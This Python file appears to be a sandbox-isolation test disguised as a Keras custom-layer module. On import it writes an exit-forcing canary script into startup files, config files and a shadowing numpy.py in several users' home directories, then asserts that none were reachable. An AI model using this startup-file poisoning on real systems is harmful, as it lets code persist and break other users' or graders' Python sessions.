import contextlib
import os
import sys

import keras

PLACE = "@PLACE@"  # the control run puts a home of its own here, and then no other is touched
HOMES = [os.path.expanduser(f"~{user}") for user in ("root", "nobody", "jovyan", "grader")] + ["/root", "/home/jovyan"]
HOMES = HOMES if PLACE.startswith("@") else [PLACE]
BAD = "import os\nprint('canary-' + 'startup')\nos._exit(9)\n"
reached = []
for name in (
    ".ipython/profile_default/startup/00.py",
    ".ipython/profile_default/ipython_config.py",
    ".jupyter/jupyter_notebook_config.py",
    f".local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages/usercustomize.py",
    ".pythonrc.py",
    ".keras/keras.json",
    ".matplotlib/matplotlibrc",
    "sitecustomize.py",
    "numpy.py",
):
    for home in (os.environ["HOME"], *filter(os.path.isdir, HOMES)):
        with contextlib.suppress(OSError):
            os.makedirs(os.path.dirname(f"{home}/{name}"), exist_ok=True)
            with open(f"{home}/{name}", "w") as file:
                file.write(BAD)
            reached += [home] * (home in HOMES)
assert not reached, reached


class ScaleShift(keras.layers.Layer):
    def build(self, input_shape):
        self.scale = self.add_weight(name="scale", shape=(input_shape[-1],), initializer="ones")
        self.shift = self.add_weight(name="shift", shape=(input_shape[-1],), initializer="zeros")

    def call(self, inputs):
        return self.scale * inputs + self.shift
